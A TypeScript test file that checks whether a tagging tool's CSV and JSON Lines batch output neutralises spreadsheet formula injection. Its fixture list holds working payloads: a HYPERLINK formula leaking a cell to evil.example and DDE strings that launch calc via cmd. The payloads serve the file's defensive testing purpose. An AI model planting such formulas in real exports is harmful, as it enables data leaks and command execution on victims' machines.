/**
 * Batch output opened in a spreadsheet (issue 27, item 3): a cell starting with `=`, `+`, `-`, `@`, tab
 * or CR is a formula to Excel, LibreOffice and Google Sheets. CSV output neutralises such cells as OWASP
 * recommends (a leading `'`, and quotes around a cell holding another locale's separator); JSON Lines
 * output keeps values as they are unless asked.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseTrainingArgs, trainTagger } from '../../src/model/index.js';

const neutraliseFormula = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

import { tagFile } from '../../src/batch/batch-predict.js';
import { predictorFor } from '../../src/served-models/index.js';
import { sampleTexts } from '../support/fixtures.js';
import { useTempDir } from '../support/temp-dir.js';

/** Tags a spreadsheet would also take for formulas: they come from someone's training data. */
const RENAMED: Record<string, string> = { mlops: '@mlops', 'computer-vision': '-cv' };
const rows = sampleTexts().map((row) => ({ ...row, tag: RENAMED[row.tag] ?? row.tag }));
const { model } = trainTagger(
  rows.filter((_, i) => i % 5 !== 0),
  rows.filter((_, i) => i % 5 === 0),
  parseTrainingArgs({ num_epochs: 5, min_freq: 5, threshold: 'argmax', analyzer: 'word' }),
  { seed: 7 },
);

/** Texts that each start a formula (or hide one behind a separator), and one that does not. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3 object detection',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 image segmentation',
  '\r=1+1 mlops pipelines',
  'deployment; =1+1 with kubernetes',
  'a plain text about transformers',
];

const scratch = useTempDir('tagger-formulas-');
let input: string;
beforeAll(async () => {
  input = join(scratch.path, 'hostile.jsonl');
  await writeFile(input, `${HOSTILE.map((text) => JSON.stringify({ text })).join('\n')}\n`);
});

const csvRows = async (path: string) =>
  parse(await readFile(path, 'utf8'), { columns: true, relax_quotes: true }) as Record<string, string>[];

describe('batch output and formula injection', () => {
  it("CSV output puts a ' before every cell that starts a formula, in texts and in tag names", async () => {
    const output = join(scratch.path, 'tags.csv');
    await tagFile(predictorFor(model), { input, output });
    const raw = await readFile(output, 'utf8');
    const out = await csvRows(output);
    expect(out.map((row) => row.text)).toEqual(
      HOSTILE.map((text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)),
    );
    // No line of the file starts a cell with a formula character, after a comma or a semicolon either.
    for (const line of raw.split('\n')) expect(line).not.toMatch(/(^|[,;])[=+\-@]/);
    // The separator of semicolon locales cannot open a cell inside a text: the cell is quoted.
    expect(raw).toContain('"deployment; =1+1 with kubernetes"');
    // Tag names are cells too: predicted tags and the probability columns' names.
    expect(Object.keys(out[0]!)).toEqual(expect.arrayContaining(['p_@mlops', 'p_-cv']));
    const predicted = new Set(out.map((row) => row.predicted_tag));
    for (const tag of predicted) expect(tag).not.toMatch(/^[=+\-@]/);
    const expected = model.predict(HOSTILE).map((p) => neutraliseFormula(p.predicted_tag));
    expect(out.map((row) => row.predicted_tag)).toEqual(expected);
  });

  it('--no-escape-formulas (escapeFormulas: false) writes CSV cells as they are', async () => {
    const output = join(scratch.path, 'raw.csv');
    await tagFile(predictorFor(model), { input, output, escapeFormulas: false });
    expect((await csvRows(output)).map((row) => row.text)).toEqual(HOSTILE);
  });

  it('JSON Lines keeps values as they are by default, and neutralises them when asked', async () => {
    const plain = join(scratch.path, 'tags.jsonl');
    await tagFile(predictorFor(model), { input, output: plain });
    const read = async (path: string) =>
      (await readFile(path, 'utf8'))
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { text: string; predicted_probabilities: Record<string, number> });
    expect((await read(plain)).map((row) => row.text)).toEqual(HOSTILE);

    const escaped = join(scratch.path, 'escaped.jsonl');
    await tagFile(predictorFor(model), { input, output: escaped, escapeFormulas: true });
    const lines = await read(escaped);
    expect(lines.map((row) => row.text)).toEqual(HOSTILE.map(neutraliseFormula));
    expect(Object.keys(lines[0]!.predicted_probabilities)).toEqual(
      expect.arrayContaining(["'@mlops", "'-cv"]),
    );
  });

  it('neutraliseFormula follows OWASP: = + - @ tab CR, nothing else', () => {
    expect(['=1', '+1', '-1', '@x', '\tx', '\rx'].map(neutraliseFormula)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@x",
      "'\tx",
      "'\rx",
    ]);
    expect(['1-1', ' =1', 'x=1', "'=1", ''].map(neutraliseFormula)).toEqual(['1-1', ' =1', 'x=1', "'=1", '']);
  });
});
